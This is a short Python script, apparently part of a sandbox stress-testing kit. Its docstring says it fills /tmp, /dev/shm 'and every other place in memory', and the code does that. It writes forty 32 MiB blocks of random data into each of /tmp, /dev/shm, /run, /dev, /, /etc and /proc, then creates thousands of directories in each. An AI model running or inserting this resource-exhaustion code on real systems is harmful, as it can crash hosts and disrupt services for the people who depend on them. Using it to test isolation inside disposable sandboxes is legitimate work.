"""Fills /tmp, /dev/shm and every other place in memory."""

from kit import *

block = os.urandom(1 << 20)
for folder in ("/tmp", "/dev/shm", "/run", "/dev", "/", "/etc", "/proc"):
    for number in range(40):
        attempt(lambda: open(f"{folder}/f{number}", "wb").write(block * 32))
    for number in range(3000):
        try:
            os.mkdir(f"{folder}/d{number}")
        except OSError:
            break
